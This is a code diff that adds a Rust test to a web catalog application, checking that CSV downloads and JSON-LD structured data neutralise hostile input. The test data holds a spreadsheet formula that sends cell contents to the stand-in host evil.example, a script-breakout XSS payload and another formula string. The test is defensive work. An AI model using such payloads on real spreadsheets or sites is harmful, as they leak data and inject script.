@@ -146,6 +146,32 @@ async fn the_sitemap_lists_every_public_page_and_robots_points_to_it() {
     assert!(robots.contains("Disallow: /account") && robots.contains("Disallow: /fn/"));
 }
 
+#[tokio::test]
+async fn downloads_and_structured_data_are_inert() {
+    let state = common::small_state().await;
+    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
+    let line = serde_json::json!({
+        "kind": "lab", "id": "lab-formula", "name": title, "organization": "ria3",
+        "description": "</script><script>alert(1)</script>", "capabilities": ["@SUM(A1:A9)"], "sectors": ["aquaculture"]
+    });
+    let report = app::catalog::import::import_text(&state.db, &line.to_string(), &|_, _| {}).await.unwrap();
+    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
+    app::search::index::sync(&state.db, &state.search).await.unwrap();
+
+    let (_, _, body) = get(&state, "/labs.csv").await;
+    let (headers, rows) = parse_csv(&body);
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let row = rows.iter().find(|r| r[column("id")] == "lab-formula").expect("the lab is listed");
+    assert_eq!(row[column("name")], format!("'{title}"));
+    assert_eq!(row[column("capabilities")], "'@SUM(A1:A9)");
+
+    let (status, _, page) = get(&state, "/labs/lab-formula").await;
+    assert_eq!(status, StatusCode::OK);
+    let start = page.find("application/ld+json").expect("structured data");
+    let script = &page[start..][..page[start..].find("</script>").unwrap()];
+    assert!(!script[20..].contains('<') && script.contains("\\u003c/script\\u003e"), "{script}");
+}
+
 async fn dashboard(state: &app::state::AppState, cookie: &str) -> Value {
     let mut headers = vec![("content-type", "application/json"), ("accept", "application/json"), ("origin", common::ORIGIN)];
     if !cookie.is_empty() {
